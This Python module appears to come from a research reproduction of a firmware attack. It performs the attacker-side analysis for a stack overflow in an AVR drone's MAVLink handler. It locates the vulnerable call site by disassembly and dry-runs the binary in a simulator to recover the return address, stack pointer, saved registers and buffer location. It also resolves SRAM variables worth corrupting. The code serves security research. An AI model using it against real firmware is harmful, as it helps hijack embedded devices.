"""Attacker-side analysis of the victim binary.

The threat model (paper §IV-A) gives the attacker the *unprotected*
application binary.  From it they recover everything the exploit needs:

* where ``main`` calls the vulnerable MAVLink handler, hence the return
  address the overflow clobbers and must later repair;
* the stack pointer and the callee-saved r28/r29 values at that call site
  (the firmware is deterministic, so a dry run of the binary in the
  attacker's own simulator — the same thing the authors did with a debug
  board — yields exact values);
* the addresses of the SRAM variables worth corrupting.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..avr.cpu import AvrCpu
from ..avr.decoder import decode_at
from ..avr.insn import Mnemonic
from ..binfmt.image import FirmwareImage
from ..binfmt.symtab import DATA_SPACE_FLAG
from ..errors import AttackError, DecodeError
from ..firmware.hwmap import RX_BUFFER_SIZE


@dataclass(frozen=True)
class RuntimeFacts:
    """Everything the exploit builder needs to know about the victim."""

    call_site: int  # byte address of `call mavlink_handle_rx` in main
    return_address_word: int  # word address execution must resume at
    frame_sp: int  # S0: SP right after the call instruction executes
    saved_r28: int  # caller's r28 at the call site
    saved_r29: int  # caller's r29 at the call site
    buffer_start: int  # data address of the vulnerable buffer's first byte
    buffer_size: int


def find_handler_call_site(image: FirmwareImage, handler: str = "mavlink_handle_rx") -> int:
    """Locate the ``call <handler>`` site by static disassembly.

    Scans every function (real firmware reaches the handler through a
    comms task, not straight from ``main``).
    """
    target_word = image.symbols.get(handler).word_address
    for function in image.symbols.functions():
        if function.name == handler:
            continue
        offset = function.address
        while offset < function.end:
            try:
                insn, size = decode_at(image.code, offset)
            except DecodeError:
                offset += 2
                continue
            if insn.mnemonic is Mnemonic.CALL and insn.k == target_word:
                return offset
            if insn.mnemonic is Mnemonic.RCALL:
                resolved = offset // 2 + 1 + insn.k
                if resolved == target_word:
                    return offset
            offset += size
    raise AttackError(f"no call to {handler} found in the image")


def derive_runtime_facts(
    image: FirmwareImage,
    handler: str = "mavlink_handle_rx",
    max_instructions: int = 500_000,
) -> RuntimeFacts:
    """Dry-run the binary up to the handler call and read the machine state.

    The facts ride on the image (not as a field, so ``dataclasses.replace``
    never copies them), like its layout plan: a second call on the same
    binary is a lookup, and an image whose ``code`` or ``symbols`` was
    replaced since is dry-run again.
    """
    kept = image.__dict__.get("_runtime_facts")
    if (
        kept is not None
        and kept[0] is image.code
        and kept[1] is image.symbols
        and kept[2:5] == (len(image.symbols), handler, max_instructions)
    ):
        return kept[5]
    facts = _dry_run(image, handler, max_instructions)
    image._runtime_facts = (
        image.code, image.symbols, len(image.symbols), handler,
        max_instructions, facts,
    )
    return facts


def _dry_run(image: FirmwareImage, handler: str, max_instructions: int) -> RuntimeFacts:
    call_site = find_handler_call_site(image, handler)
    insn, size = decode_at(image.code, call_site)
    return_address_word = call_site // 2 + size // 2

    cpu = AvrCpu()
    cpu.load_program(image.code)
    cpu.reset()
    executed = 0
    while cpu.pc_bytes != call_site:
        cpu.step()
        executed += 1
        if executed >= max_instructions:
            raise AttackError(
                "dry run never reached the handler call site "
                f"(0x{call_site:05x})"
            )
    sp_before = cpu.data.sp
    frame_sp = sp_before - 3  # the call pushes a 3-byte return address
    # frame layout inside the handler: push r28, push r29, then an
    # RX_BUFFER_SIZE-byte frame; buffer starts just above the moved SP
    buffer_start = frame_sp - 2 - RX_BUFFER_SIZE + 1
    return RuntimeFacts(
        call_site=call_site,
        return_address_word=return_address_word,
        frame_sp=frame_sp,
        saved_r28=cpu.data.read_reg(28),
        saved_r29=cpu.data.read_reg(29),
        buffer_start=buffer_start,
        buffer_size=RX_BUFFER_SIZE,
    )


def variable_address(image: FirmwareImage, name: str) -> int:
    """SRAM data-space address of a named firmware variable."""
    symbol = image.symbols.get(name)
    if symbol.address < DATA_SPACE_FLAG:
        raise AttackError(f"{name} is not an SRAM variable")
    return symbol.address - DATA_SPACE_FLAG
